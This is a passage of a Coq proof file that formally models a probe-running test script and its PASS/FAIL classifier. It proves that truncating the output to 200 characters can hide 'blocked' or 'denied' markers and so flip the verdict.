       if String.eqb command_ "ls -la /home"
       then Returns (mkResult 0
                       (Some ("drwxr-xr-x 2 ren"
                              ++ String (ascii_of_nat 233) "e users 4096 .")) None)
       else devboxes_execute_sync Samples.world_ok h id command_ timeout)
    Samples.world_ok.

End Consoles.

(** What the parts of the script guarantee on any console. *)
Module FullSpecs.
Import Trace Paths Events Run.
Local Open Scope list_scope.

(** An event from before the [try] of line 292: not a command, not a
    shutdown, and not the 10-second pause. *)
Definition early (ev : event) : Prop :=
  is_execute ev = false /\ is_shutdown ev = false /\ ev <> EvSleep 10.

(** The part before the [try]: when it returns, the 10-second pause is
    its last event; when it does not, that pause is not among its
    events. *)
Definition paused {A} (r : outcome A) (E : trace) : Prop :=
  match r with
  | Done _ => exists pre, E = pre ++ [EvSleep 10] /\ Forall early pre
  | _ => Forall early E
  end.

(** A part of the script that ends whatever it is answered and adds only
    events that satisfy [N]. *)
Definition ends {A} (N : event -> Prop) (m : M A) : Prop :=
  sat m (fun r E => r <> OutOfFuel /\ Forall N E).

(** Some [print] raised [e]. *)
Definition print_raised (c : Console) (e : exn) : Prop :=
  exists h text, print_answer c h text = Raises e.

(** The three lines of lines 342-344 for a result. *)
Definition report_lines (test : Test) (result : ExecutionResult) : list string :=
  [ ("       Output: "
     ++ (if String.eqb (Classifier.output result) "" then "(no output)"
         else Classifier.output result))%string;
    ("       Exit code: " ++ PyStr.str_of_int (exit_status result))%string;
    ("       Result: ["
     ++ (if Classifier.passed test result then "PASS" else "FAIL") ++ "]")%string ].

(** The [print] of one of these lines raised [e]. *)
Definition report_raised (c : Console) (test : Test) (result : ExecutionResult)
    (e : exn) : Prop :=
  exists h text,
    In text (report_lines test result) /\ print_answer c h text = Raises e.

(** The "Result:" line of a probe. *)
Definition result_line (v : Verdict) : event :=
  EvPrint ("       Result: [" ++ label v ++ "]").

(** What follows the [execute_sync] of a probe, from its answer [a]:
    the outcome [r] of the probe and the lines [Q] that it prints. *)
Definition after_call (c : Console) (test : Test) (results : Results)
    (a : answer ExecutionResult) (r : outcome Results) (Q : trace) : Prop :=
  match a with
  | Returns result =>
      let v := Classifier.verdict test result in
      (* lines 340-344 *)
      (r = Done (incr v results) /\ exists Q', Q = Q' ++ [result_line v])
      (* a print of lines 342-344 raised and a handler took it *)
      \/ (r = Done (incr Errored (incr v results))
          /\ (exists Q', Q = Q' ++ [result_line Errored])
          /\ exists e, is_Exception e = true /\ report_raised c test result e)
      (* a print raised and nothing took it *)
      \/ (exists e, r = Raise e /\ print_raised c e)
  | Raises e =>
      if is_Exception e
      then (r = Done (incr Errored results)
            /\ exists Q', Q = Q' ++ [result_line Errored])
           \/ (exists e', r = Raise e' /\ print_raised c e')
      else r = Raise e /\ Q = []
  end.

(** One probe (lines 302-353): it stops at a [print] that raises before
    the call, or it makes the call and goes on as above. *)
Definition probe_run (c : Console) (id : string) (test : Test)
    (results : Results) (r : outcome Results) (E : trace) : Prop :=
  (all_prints E /\ exists e, r = Raise e /\ print_raised c e)
  \/ exists a P Q,
       E = P ++ EvExecuteSync id (command test) 30 a :: Q
       /\ all_prints P /\ all_prints Q
       /\ after_call c test results a r Q.

(** The counters after a loop over the tests [ts] that returned, from
    the answers of [execute_sync]: [passed] and [failed] count the
    scored answers; [errors] counts at least the calls that raised and
    at most one per probe. *)
Definition counted (ts : list Test) (results : Results)
    (r : outcome Results) (E : trace) : Prop :=
  match r with
  | Done results' =>
      List.length (answers E) = List.length ts
      /\ passed results'
         = (passed results
            + Z.of_nat (List.length (filter (scored true) (combine ts (answers E)))))%Z
      /\ failed results'
         = (failed results
            + Z.of_nat (List.length (filter (scored false) (combine ts (answers E)))))%Z
      /\ (errors results + Z.of_nat (count is_raised E) <= errors results')%Z
      /\ (errors results' <= errors results + Z.of_nat (List.length ts))%Z
  | _ => True
  end.

End FullSpecs.


(* ===================================================================== *)
(** * Facts about the string operations *)
(* ===================================================================== *)

Module PyStrFacts.
Import PyStr.

Lemma append_empty_r (s : string) : s ++ "" = s.
Proof. induction s; simpl; congruence. Qed.

Lemma append_assoc (a b c : string) : (a ++ b) ++ c = a ++ (b ++ c).
Proof. induction a; simpl; congruence. Qed.

Lemma take_drop (n : nat) (s : string) : take n s ++ drop n s = s.
Proof.
  revert s; induction n as [|n IH]; intros [|c s]; simpl; try reflexivity.
  now rewrite IH.
Qed.

Lemma lower_app (a b : string) : lower (a ++ b) = lower a ++ lower b.
Proof. induction a; simpl; congruence. Qed.

Lemma lower_take (n : nat) (s : string) : lower (take n s) = take n (lower s).
Proof.
  revert s; induction n as [|n IH]; intros [|c s]; simpl; try reflexivity.
  now rewrite IH.
Qed.

Lemma startswith_spec (sub s : string) :
  startswith sub s = true <-> exists post, s = sub ++ post.
Proof.
  revert s; induction sub as [|a sub IH]; intros s.
  - destruct s; simpl; split; eauto.
  - destruct s as [|b s]; simpl.
    + split; [discriminate | intros [post H]; discriminate].
    + rewrite andb_true_iff, Ascii.eqb_eq, IH. split.
      * intros [-> [post ->]]. eauto.
      * intros [post H]. injection H as -> ->. eauto.
Qed.

Lemma contains_spec (sub s : string) :
  contains sub s = true <-> exists pre post, s = pre ++ sub ++ post.
Proof.
  induction s as [|c s IH].
  - simpl. rewrite orb_false_r, startswith_spec. split.
    + intros [post H]. exists "", post. exact H.
    + intros [[|d pre] [post H]]; [eauto | discriminate].
  - cbn [contains]. rewrite orb_true_iff, startswith_spec, IH. split.
    + intros [[post H] | [pre [post H]]].
      * exists "", post. exact H.
      * exists (String c pre), post. simpl. now rewrite H.
    + intros [[|d pre] [post H]].
      * left. eauto.
      * right. injection H as -> ->. eauto.
Qed.

Lemma contains_app_l (sub a b : string) :
  contains sub a = true -> contains sub (a ++ b) = true.
Proof.
  rewrite !contains_spec. intros [pre [post ->]].
  exists pre, (post ++ b). now rewrite !append_assoc.
Qed.

Lemma contains_app_r (sub a b : string) :
  contains sub b = true -> contains sub (a ++ b) = true.
Proof.
  rewrite !contains_spec. intros [pre [post ->]].
  exists (a ++ pre), post. now rewrite !append_assoc.
Qed.

(** ** [strip] keeps every occurrence of a word that neither starts nor
       ends with white space *)

Lemma lstrip_suffix (s : string) : exists ws, s = ws ++ lstrip s.
Proof.
  induction s as [|c s [ws IH]]; simpl.
  - now exists "".
  - destruct (is_space c).
    + exists (String c ws). simpl. now rewrite <- IH.
    + now exists "".
Qed.

Lemma rstrip_prefix (s : string) : exists ws, s = rstrip s ++ ws.
Proof.
  induction s as [|c s [ws IH]]; simpl.
  - now exists "".
  - destruct (rstrip s) as [|d r] eqn:E.
    + destruct (is_space c).
      * exists (String c s). reflexivity.
      * exists s. reflexivity.
    + exists ws. simpl. simpl in IH. now rewrite <- IH.
Qed.

Lemma lstrip_keeps (pre rest : string) (d : ascii) :
  is_space d = false ->
  exists pre', lstrip (pre ++ String d rest) = pre' ++ String d rest.
Proof.
  intros Hd. induction pre as [|c pre [pre' IH]]; simpl.
  - rewrite Hd. now exists "".
  - destruct (is_space c).
    + now exists pre'.
    + now exists (String c pre).
Qed.

Lemma rstrip_keeps (pre rest : string) (d : ascii) :
  is_space d = false ->
  rstrip (pre ++ String d rest) = pre ++ String d (rstrip rest).
Proof.
  intros Hd. induction pre as [|c pre IH]; simpl.
  - destruct (rstrip rest); [now rewrite Hd | reflexivity].
  - rewrite IH. destruct pre; reflexivity.
Qed.

Lemma first_char_split (p : ascii -> bool) (sub : string) :
  first_char p sub = true -> exists d rest, sub = String d rest /\ p d = true.
Proof. destruct sub as [|d rest]; simpl; [discriminate | eauto]. Qed.

Lemma last_char_split (p : ascii -> bool) (sub : string) :
  last_char p sub = true ->
  exists front d, sub = front ++ String d "" /\ p d = true.
Proof.
  induction sub as [|c sub IH]; [discriminate|].
  destruct sub as [|c' sub'].
  - simpl. intros H. now exists "", c.
  - intros H. destruct (IH H) as [front [d [E Hd]]].
    exists (String c front), d. simpl. now rewrite <- E.
Qed.

Lemma contains_lstrip (sub s : string) :
  first_char not_space sub = true ->
  contains sub (lstrip s) = true <-> contains sub s = true.
Proof.
  intros H. destruct (first_char_split _ _ H) as [d [rest [-> Hd]]].
  apply negb_true_iff in Hd. split.
  - destruct (lstrip_suffix s) as [ws E]. intros Hc.
    rewrite E. now apply contains_app_r.
  - rewrite !contains_spec. intros [pre [post ->]]. simpl.
    destruct (lstrip_keeps pre (rest ++ post) d Hd) as [pre' ->].
    now exists pre', post.
Qed.

Lemma contains_rstrip (sub s : string) :
  last_char not_space sub = true ->
  contains sub (rstrip s) = true <-> contains sub s = true.
Proof.
  intros H. destruct (last_char_split _ _ H) as [front [d [-> Hd]]].
  apply negb_true_iff in Hd. split.
  - destruct (rstrip_prefix s) as [ws E]. intros Hc.
    rewrite E. now apply contains_app_l.
  - rewrite !contains_spec. intros [pre [post ->]].
    exists pre, (rstrip post).
    rewrite !append_assoc. simpl.
    rewrite <- (append_assoc pre front).
    rewrite (rstrip_keeps (pre ++ front) post d Hd).
    now rewrite append_assoc.
Qed.

Lemma contains_strip (sub s : string) :
  first_char not_space sub = true ->
  last_char not_space sub = true ->
  contains sub (strip s) = true <-> contains sub s = true.
Proof.
  intros Hf Hl. unfold strip.
  now rewrite contains_rstrip, contains_lstrip.
Qed.

(** ** [lower] and [strip] commute *)

Lemma is_space_lower_char (c : ascii) : is_space (lower_char c) = is_space c.
Proof.
  destruct c as [[] [] [] [] [] [] [] []]; reflexivity.
Qed.

Lemma lstrip_lower (s : string) : lstrip (lower s) = lower (lstrip s).
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  rewrite is_space_lower_char. destruct (is_space c); [exact IH | reflexivity].
Qed.

Lemma rstrip_lower (s : string) : rstrip (lower s) = lower (rstrip s).
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  rewrite IH, is_space_lower_char.
  destruct (rstrip s); simpl; [destruct (is_space c)|]; reflexivity.
Qed.

Lemma strip_lower (s : string) : strip (lower s) = lower (strip s).
Proof. unfold strip. now rewrite lstrip_lower, rstrip_lower. Qed.

(** ** Characters that [lower] neither produces nor changes *)

Lemma startswith_lower_case_free (sub s : string) :
  all_case_free sub -> startswith sub (lower s) = startswith sub s.
Proof.
  revert s; induction sub as [|d sub IH]; intros s H.
  - destruct s; reflexivity.
  - destruct H as [Hd H]. destruct s as [|c s]; simpl; [reflexivity|].
    now rewrite Hd, IH.
Qed.

Lemma contains_lower_case_free (sub s : string) :
  all_case_free sub -> contains sub (lower s) = contains sub s.
Proof.
  intros H. induction s as [|c s IH].
  - reflexivity.
  - cbn [lower contains]. rewrite <- IH. f_equal.
    exact (startswith_lower_case_free sub (String c s) H).
Qed.

Lemma case_free_4 : case_free "4".
Proof. intros c. destruct c as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

Lemma case_free_0 : case_free "0".
Proof. intros c. destruct c as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

(** ** A word without a full stop that occurs in [a ++ "..."] occurs in [a] *)

Lemma startswith_before_dots (sub a : string) :
  all_chars not_dot sub = true ->
  startswith sub (a ++ "...") = true -> startswith sub a = true.
Proof.
  revert a; induction sub as [|d sub IH]; intros a H.
  - destruct a; reflexivity.
  - simpl in H. apply andb_true_iff in H as [Hd H].
    unfold not_dot in Hd. apply negb_true_iff in Hd.
    destruct a as [|c a]; simpl.
    + rewrite Hd. discriminate.
    + rewrite !andb_true_iff. intros [E P]. split; [exact E | now apply IH].
Qed.

Lemma contains_dots (sub : string) :
  all_chars not_dot sub = true ->
  contains sub "..." = true -> sub = "".
Proof.
  destruct sub as [|d sub]; [reflexivity|].
  simpl. intros H. apply andb_true_iff in H as [Hd _].
  unfold not_dot in Hd. apply negb_true_iff in Hd.
  rewrite Hd. simpl. discriminate.
Qed.

Lemma contains_before_dots (sub a : string) :
  all_chars not_dot sub = true ->
  contains sub (a ++ "...") = true -> contains sub a = true.
Proof.
  intros H. induction a as [|c a IH].
  - intros Hc. now rewrite (contains_dots sub H Hc).
  - cbn [append contains]. rewrite !orb_true_iff. intros [P | Q].
    + left. now apply (startswith_before_dots sub (String c a)).
    + right. now apply IH.
Qed.

Lemma contains_take (sub : string) (n : nat) (s : string) :
  contains sub (take n s) = true -> contains sub s = true.
Proof.
  intros H. rewrite <- (take_drop n s). now apply contains_app_l.
Qed.

End PyStrFacts.

(* ===================================================================== *)
(** * The classifier *)
(* ===================================================================== *)

Module ClassifierFacts.
Import PyStr PyStrFacts Classifier.

Lemma contains_ci (sub text : string) :
  contains sub (lower text) = true <-> occurs_ci sub text.
Proof. unfold occurs_ci. apply contains_spec. Qed.

Lemma marker_shape (sub : string) :
  In sub blocked_markers ->
  first_char not_space sub = true /\ last_char not_space sub = true
  /\ all_chars not_dot sub = true.
Proof.
  unfold blocked_markers. simpl.
  intros [<- | [<- | [<- | [<- | [<- | []]]]]]; repeat split; reflexivity.
Qed.

(** Stripping the text neither hides nor creates a marker. *)
Lemma marker_in_stripped (sub text : string) :
  In sub blocked_markers ->
  contains sub (lower (strip text)) = true <-> occurs_ci sub text.
Proof.
  intros H. destruct (marker_shape sub H) as [Hf [Hl _]].
  rewrite <- strip_lower, contains_strip by assumption.
  apply contains_ci.
Qed.

(** A marker seen in the shortened text is in the text. *)
Lemma marker_in_truncated (sub text : string) :
  In sub blocked_markers ->
  contains sub (lower (truncate text)) = true ->
  contains sub (lower text) = true.
Proof.
  intros H. destruct (marker_shape sub H) as [_ [_ Hd]].
  unfold truncate. destruct (200 <? String.length text)%nat; [|easy].
  rewrite lower_app, lower_take.
  change (lower "...") with "...".
  intros Hc. apply (contains_take sub 200).
  now apply contains_before_dots.
Qed.

Lemma truncate_short (text : string) :
  (String.length text <= 200)%nat -> truncate text = text.
Proof.
  intros H. unfold truncate.
  destruct (Nat.ltb_spec 200 (String.length text)); [lia | reflexivity].
Qed.

(** The blocked branch as one disjunction over [blocked_markers]. *)
Lemma passed_on_blocked (output_ : string) (exit_code : Z) :
  passed_on "blocked" output_ exit_code = true
  <-> exit_code <> 0%Z
      \/ exists sub, In sub blocked_markers
                     /\ contains sub (lower output_) = true.
Proof.
  unfold passed_on. change (String.eqb "blocked" "blocked") with true. cbv iota.
  assert (E400 : contains "400" output_ = contains "400" (lower output_)).
  { symmetry. apply contains_lower_case_free.
    simpl. auto using case_free_4, case_free_0. }
  rewrite E400, !orb_true_iff, negb_true_iff, Z.eqb_neq.
  unfold blocked_markers. split.
  - intros [[[[[H | H] | H] | H] | H] | H]; [now left | right ..];
      eexists; (split; [|exact H]); simpl; tauto.
  - intros [H | [sub [Hin H]]]; [tauto|].
    simpl in Hin.
    destruct Hin as [<- | [<- | [<- | [<- | [<- | []]]]]]; tauto.
Qed.

Lemma verdict_passed (t : Test) (r : ExecutionResult) :
  verdict t r = Passed <-> passed t r = true.
Proof. unfold verdict. destruct (passed t r); split; congruence. Qed.

Lemma verdict_failed (t : Test) (r : ExecutionResult) :
  verdict t r = Failed <-> passed t r = false.
Proof. unfold verdict. destruct (passed t r); split; congruence. Qed.

Lemma verdict_untruncated_passed (t : Test) (r : ExecutionResult) :
  verdict_untruncated t r = Passed <-> passed_untruncated t r = true.
Proof.
  unfold verdict_untruncated. destruct (passed_untruncated t r); split; congruence.
Qed.

(** The rule of the blocked branch, read on the whole text: this is what
    the decision would be without lines 318-319. *)
Theorem untruncated_blocked_rule (t : Test) (r : ExecutionResult) :
  expect t = "blocked" ->
  verdict_untruncated t r = Passed
  <-> exit_status r <> 0%Z \/ blocking_signal (full_text r).
Proof.
  intros He. rewrite verdict_untruncated_passed.
  unfold passed_untruncated. rewrite He, passed_on_blocked.
  unfold blocking_signal, combined, full_text. split.
  - intros [H | [sub [Hin H]]]; [now left | right].
    exists sub. split; [exact Hin|]. now apply marker_in_stripped in H.
  - intros [H | [sub [Hin H]]]; [now left | right].
    exists sub. split; [exact Hin|]. now apply marker_in_stripped.
Qed.

(** When the stripped text has at most 200 characters the script decides
    by that rule. *)
Theorem blocked_rule_short_output (t : Test) (r : ExecutionResult) :
  expect t = "blocked" ->
  (String.length (combined r) <= 200)%nat ->
  verdict t r = Passed
  <-> exit_status r <> 0%Z \/ blocking_signal (full_text r).
Proof.
  intros He Hlen. rewrite <- (untruncated_blocked_rule t r He).
  unfold verdict, verdict_untruncated, passed, passed_untruncated, output.
  now rewrite truncate_short.
Qed.

(** Whatever the length, a blocked probe that passes had a nonzero exit
    status or a marker in its text. *)
Theorem blocked_passed_sound (t : Test) (r : ExecutionResult) :
  expect t = "blocked" ->
  verdict t r = Passed ->
  exit_status r <> 0%Z \/ blocking_signal (full_text r).
Proof.
  intros He. rewrite verdict_passed. unfold passed. rewrite He, passed_on_blocked.
  intros [H | [sub [Hin H]]]; [now left | right].
  exists sub. split; [exact Hin|].
  apply marker_in_truncated in H; [|exact Hin].
  now apply marker_in_stripped in H.
Qed.

(** A nonzero exit status always passes a blocked probe. *)
Theorem blocked_nonzero_exit (t : Test) (r : ExecutionResult) :
  expect t = "blocked" -> exit_status r <> 0%Z -> verdict t r = Passed.
Proof.
  intros He Hx. rewrite verdict_passed. unfold passed.
  rewrite He, passed_on_blocked. now left.
Qed.

(** The decision of the script and the decision on the whole text differ
    only on a blocked probe with exit status 0 and more than 200
    characters of text. *)
Theorem truncation_matters_only_when (t : Test) (r : ExecutionResult) :
  verdict t r <> verdict_untruncated t r ->
  expect t = "blocked" /\ exit_status r = 0%Z
  /\ (200 < String.length (combined r))%nat
  /\ verdict t r = Failed /\ verdict_untruncated t r = Passed.
Proof.
  intros Hne.
  assert (Hlen : (200 < String.length (combined r))%nat).
  { destruct (Nat.ltb_spec 200 (String.length (combined r))) as [H | H]; [exact H|].
    exfalso. apply Hne.
    unfold verdict, verdict_untruncated, passed, passed_untruncated, output.
    now rewrite truncate_short. }
  assert (He : expect t = "blocked").
  { destruct (String.eqb_spec (expect t) "blocked") as [H | H]; [exact H|].
    exfalso. apply Hne.
    unfold verdict, verdict_untruncated, passed, passed_untruncated, passed_on.
    apply String.eqb_neq in H. now rewrite H. }
  assert (Hx : exit_status r = 0%Z).
  { destruct (Z.eq_dec (exit_status r) 0) as [H | H]; [exact H|].
    exfalso. apply Hne.
    unfold verdict, verdict_untruncated, passed, passed_untruncated, passed_on.
    rewrite He. apply Z.eqb_neq in H. now rewrite H. }
  assert (Hv : verdict t r = Failed).
  { destruct (passed t r) eqn:E.
    - exfalso. apply Hne.
      assert (P : verdict t r = Passed) by now apply verdict_passed.
      rewrite P. symmetry.
      apply (proj2 (untruncated_blocked_rule t r He)).
      exact (blocked_passed_sound t r He P).
    - now apply verdict_failed. }
  repeat split; try assumption.
  rewrite Hv in Hne. unfold verdict_untruncated in *.
  destruct (passed_untruncated t r); [reflexivity | now elim Hne].
Qed.

End ClassifierFacts.

Import PyStr Classifier.

(** C1.  A blocked probe passes iff its exit status is nonzero or its
    stdout+stderr text shows, case ignored, one of "blocked", "denied",
    "permission", "400", "not found".  The script breaks this at
    [Samples.late_blocked]: the exit status is 0, the text contains
    "blocked" after 200 other characters, and the verdict is Failed,
    because lines 318-319 cut the text before lines 326-333 search it. *)
Theorem C1_marker_after_200_characters_is_missed :
  expect Samples.sudo_test = "blocked"
  /\ exit_status Samples.late_blocked = 0%Z
  /\ blocking_signal (full_text Samples.late_blocked)
  /\ verdict Samples.sudo_test Samples.late_blocked = Failed.
Proof.
  repeat split.
  exists "blocked". split; [simpl; tauto|].
  apply ClassifierFacts.contains_ci. vm_compute. reflexivity.
Qed.

(** C2.  The shortening of the text to 200 characters is for display only:
    the verdict equals the verdict on the whole text.  The script breaks
    this at [Samples.late_denied]: the word "Denied" comes after the cut,
    the verdict of the script is Failed and the verdict on the whole text
    is Passed. *)
Theorem C2_truncation_changes_the_verdict :
  (200 < String.length (combined Samples.late_denied))%nat
  /\ contains "denied" (lower (combined Samples.late_denied)) = true
  /\ contains "denied" (lower (output Samples.late_denied)) = false
  /\ verdict Samples.aws_test Samples.late_denied = Failed
  /\ verdict_untruncated Samples.aws_test Samples.late_denied = Passed.
Proof.
  repeat split; try reflexivity.
  vm_compute. repeat constructor.
Qed.

(** C3.  A probe that expects success passes iff the exit status is 0,
    and fails otherwise, whatever stdout and stderr hold. *)
Theorem C3_success_iff_exit_status_zero (t : Test) (r : ExecutionResult) :
  expect t = "success" ->
  (verdict t r = Passed <-> exit_status r = 0%Z)
  /\ (verdict t r = Failed <-> exit_status r <> 0%Z)
  /\ (forall out err, verdict t (mkResult (exit_status r) out err) = verdict t r).
Proof.
  intros He. unfold verdict, passed, passed_on. rewrite He. simpl.
  destruct (Z.eqb_spec (exit_status r) 0) as [E | E].
  - intuition congruence.
  - intuition congruence.
Qed.

Lemma C3_success_witness :
  expect Samples.echo_test = "success"
  /\ ((verdict Samples.echo_test (mkResult 0 (Some "permission denied") None) = Passed
       <-> 0%Z = 0%Z)
      /\ (verdict Samples.echo_test (mkResult 0 (Some "permission denied") None) = Failed
          <-> 0%Z <> 0%Z)
      /\ (forall out err,
            verdict Samples.echo_test (mkResult 0 out err)
            = verdict Samples.echo_test (mkResult 0 (Some "permission denied") None))).
Proof.
  split; [reflexivity|].
  exact (C3_success_iff_exit_status_zero Samples.echo_test
           (mkResult 0 (Some "permission denied") None) eq_refl).
Defined.

(** C10.  A result whose stdout or stderr is [None] is classified on the
    text of the field that is there, as if the missing one were the empty
    string: [shown] is the text of the present field (empty when both are
    missing), the text looked at is [shown] stripped and shortened, the
    verdict is the one of the same result with "" in place of [None], and
    it follows from the exit status and that text by the rules of the
    test's expectation, so it is Passed or Failed for every such
    result. *)
Theorem C10_missing_text_counts_as_empty (t : Test) (r : ExecutionResult) :
  stdout r = None \/ stderr r = None ->
  let shown := match stdout r, stderr r with
               | Some text, _ | None, Some text => text
               | None, None => ""
               end in
  combined r = strip shown
  /\ output r = truncate (strip shown)
  /\ verdict t r
     = verdict t
         (mkResult (exit_status r)
            (Some (match stdout r with Some text => text | None => "" end))
            (Some (match stderr r with Some text => text | None => "" end)))
  /\ verdict t r
     = (if passed_on (expect t) (truncate (strip shown)) (exit_status r)
        then Passed else Failed)
  /\ (stdout r = None -> stderr r = None ->
      output r = ""
      /\ verdict t r
         = (if String.eqb (expect t) "blocked"
            then if (exit_status r =? 0)%Z then Failed else Passed
            else if String.eqb (expect t) "success"
                 then if (exit_status r =? 0)%Z then Passed else Failed
                 else Passed)).
Proof.
  destruct r as [code [out |] [err |]]; cbn [stdout stderr exit_status];
    intros [H | H]; try discriminate H; clear H;
    unfold verdict, passed, output, combined, or_empty;
    cbn [stdout stderr exit_status];
    rewrite ?PyStrFacts.append_empty_r;
    (split; [reflexivity|]); (split; [reflexivity|]);
    (split; [reflexivity|]); (split; [reflexivity|]);
    intros H1 H2; try discriminate.
  all: split; [reflexivity|].
  all: unfold passed_on; cbn;
    destruct (String.eqb (expect t) "blocked"),
             (String.eqb (expect t) "success"), (code =? 0)%Z; reflexivity.
Qed.

Lemma C10_missing_text_witness :
  (stdout (mkResult 0 None (Some "sudo: Permission denied")) = None
   \/ stderr (mkResult 0 None (Some "sudo: Permission denied")) = None)
  /\ output (mkResult 0 None (Some "sudo: Permission denied"))
     = "sudo: Permission denied"
  /\ verdict Samples.sudo_test (mkResult 0 None (Some "sudo: Permission denied"))
     = Passed
  /\ verdict Samples.sudo_test (mkResult 0 (Some "root") None) = Failed
  /\ verdict Samples.sudo_test (mkResult 1 None None) = Passed.
Proof.
  destruct (C10_missing_text_counts_as_empty Samples.sudo_test
              (mkResult 0 None (Some "sudo: Permission denied"))
              (or_introl eq_refl)) as (_ & A2 & _ & A4 & _).
  destruct (C10_missing_text_counts_as_empty Samples.sudo_test
              (mkResult 0 (Some "root") None) (or_intror eq_refl))
    as (_ & _ & _ & A5 & _).
  destruct (C10_missing_text_counts_as_empty Samples.sudo_test
              (mkResult 1 None None) (or_introl eq_refl))
    as (_ & _ & _ & _ & B5).
  split; [now left|]. split; [rewrite A2; reflexivity|].
  split; [rewrite A4; reflexivity|]. split; [rewrite A5; reflexivity|].
  exact (proj2 (B5 eq_refl eq_refl)).
Defined.

(* ===================================================================== *)
(** * Rules for reasoning about computations *)
(* ===================================================================== *)

Module Rules.
Import Trace.

Section Sat.
Context {A B : Type}.

Lemma sat_ret (a : A) (S : outcome A -> trace -> Prop) :
  S (Done a) [] -> sat (ret a) S.
Proof. intros H h. exact H. Qed.

Lemma sat_raise (e : exn) (S : outcome A -> trace -> Prop) :
  S (Raise e) [] -> sat (raise e) S.
Proof. intros H h. exact H. Qed.

Lemma sat_out_of_fuel (S : outcome A -> trace -> Prop) :
  S OutOfFuel [] -> sat out_of_fuel S.
Proof. intros H h. exact H. Qed.

Lemma sat_call (ask : trace -> answer A) (log : answer A -> event)
    (S : outcome A -> trace -> Prop) :
  (forall a, S (match a with Returns x => Done x | Raises e => Raise e end)
               [log a]) ->
  sat (call ask log) S.
Proof. intros H h. apply H. Qed.

Lemma sat_weaken (m : M A) (S S' : outcome A -> trace -> Prop) :
  sat m S -> (forall r E, S r E -> S' r E) -> sat m S'.
Proof. intros H W h. apply W, H. Qed.

Lemma sat_bind (m : M A) (f : A -> M B)
    (S : outcome A -> trace -> Prop)
    (T : A -> outcome B -> trace -> Prop)
    (U : outcome B -> trace -> Prop) :
  sat m S ->
  (forall a, sat (f a) (T a)) ->
  (forall a E1 r E2, S (Done a) E1 -> T a r E2 -> U r (E1 ++ E2)%list) ->
  (forall e E, S (Raise e) E -> U (Raise e) E) ->
  (forall E, S OutOfFuel E -> U OutOfFuel E) ->
  sat (bind m f) U.
Proof.
  intros Hm Hf Hd Hr Ho h. unfold bind.
  specialize (Hm h). destruct (m h) as [[a | e |] E1]; simpl in Hm.
  - specialize (Hf a (h ++ E1)%list).
    destruct (f a (h ++ E1)%list) as [r E2]. simpl in *. now apply (Hd a).
  - simpl. now apply Hr.
  - simpl. now apply Ho.
Qed.

Lemma sat_try_except (m : M A) (handler : exn -> M A)
    (S : outcome A -> trace -> Prop)
    (T : exn -> outcome A -> trace -> Prop)
    (U : outcome A -> trace -> Prop) :
  sat m S ->
  (forall e, sat (handler e) (T e)) ->
  (forall a E, S (Done a) E -> U (Done a) E) ->
  (forall E, S OutOfFuel E -> U OutOfFuel E) ->
  (forall e E1 r E2, S (Raise e) E1 -> T e r E2 -> U r (E1 ++ E2)%list) ->
  sat (try_except m handler) U.
Proof.
  intros Hm Hh Hd Ho Hr h. unfold try_except.
  specialize (Hm h). destruct (m h) as [[a | e |] E1]; simpl in Hm.
  - simpl. now apply Hd.
  - specialize (Hh e (h ++ E1)%list).
    destruct (handler e (h ++ E1)%list) as [r E2]. simpl in *. now apply (Hr e).
  - simpl. now apply Ho.
Qed.

Lemma sat_try_finally (m : M A) (fin : M unit)
    (S : outcome A -> trace -> Prop)
    (T : outcome unit -> trace -> Prop)
    (U : outcome A -> trace -> Prop) :
  sat m S ->
  sat fin T ->
  (forall E, S OutOfFuel E -> U OutOfFuel E) ->
  (forall r E1 r2 E2,
     r <> OutOfFuel -> S r E1 -> T r2 E2 ->
     U (match r2 with
        | Done _ => r
        | Raise e => Raise e
        | OutOfFuel => OutOfFuel
        end) (E1 ++ E2)%list) ->
  sat (try_finally m fin) U.
Proof.
  intros Hm Hf Ho Hd h. unfold try_finally.
  specialize (Hm h). destruct (m h) as [[a | e |] E1]; simpl in Hm.
  - specialize (Hf (h ++ E1)%list). destruct (fin (h ++ E1)%list) as [r2 E2].
    simpl in *. apply (Hd (Done a)); [discriminate | assumption ..].
  - specialize (Hf (h ++ E1)%list). destruct (fin (h ++ E1)%list) as [r2 E2].
    simpl in *. apply (Hd (Raise e)); [discriminate | assumption ..].
  - simpl. now apply Ho.
Qed.

End Sat.

Lemma sat_emit (ev : event) (S : outcome unit -> trace -> Prop) :
  S (Done tt) [ev] -> sat (emit ev) S.
Proof. intros H h. exact H. Qed.

(** ** Computations that only add events of one kind *)

Section Emits.
Context {A B : Type} (N : event -> Prop).

Lemma emits_ret (a : A) : emits N (ret a).
Proof. apply sat_ret. constructor. Qed.

Lemma emits_raise (e : exn) : emits N (@raise A e).
Proof. apply sat_raise. constructor. Qed.

Lemma emits_out_of_fuel : emits N (@out_of_fuel A).
Proof. apply sat_out_of_fuel. constructor. Qed.

Lemma emits_call (ask : trace -> answer A) (log : answer A -> event) :
  (forall a, N (log a)) -> emits N (call ask log).
Proof. intros H. apply sat_call. intros a. repeat constructor. apply H. Qed.

Lemma emits_bind (m : M A) (f : A -> M B) :
  emits N m -> (forall a, emits N (f a)) -> emits N (bind m f).
Proof.
  intros Hm Hf.
  apply (sat_bind m f (fun _ E => Forall N E) (fun _ _ E => Forall N E));
    try assumption; auto.
  intros a E1 r E2 H1 H2. apply Forall_app. now split.
Qed.

Lemma emits_try_except (m : M A) (handler : exn -> M A) :
  emits N m -> (forall e, emits N (handler e)) -> emits N (try_except m handler).
Proof.
  intros Hm Hh.
  apply (sat_try_except m handler (fun _ E => Forall N E)
           (fun _ _ E => Forall N E)); try assumption; auto.
  intros e E1 r E2 H1 H2. apply Forall_app. now split.
Qed.

Lemma emits_try_finally (m : M A) (fin : M unit) :
  emits N m -> emits N fin -> emits N (try_finally m fin).
Proof.
  intros Hm Hf.
  apply (sat_try_finally m fin (fun _ E => Forall N E)
           (fun _ E => Forall N E)); try assumption; auto.
  intros r E1 r2 E2 _ H1 H2. apply Forall_app. now split.
Qed.

End Emits.

Lemma emits_print (N : event -> Prop) (text : string) :
  N (EvPrint text) -> emits N (print text).
Proof. intros H. apply sat_emit. now repeat constructor. Qed.

Lemma emits_sleep (N : event -> Prop) (seconds : Z) :
  N (EvSleep seconds) -> emits N (sleep seconds).
Proof. intros H. apply sat_emit. now repeat constructor. Qed.

Lemma emits_weaken {A} (N N' : event -> Prop) (m : M A) :
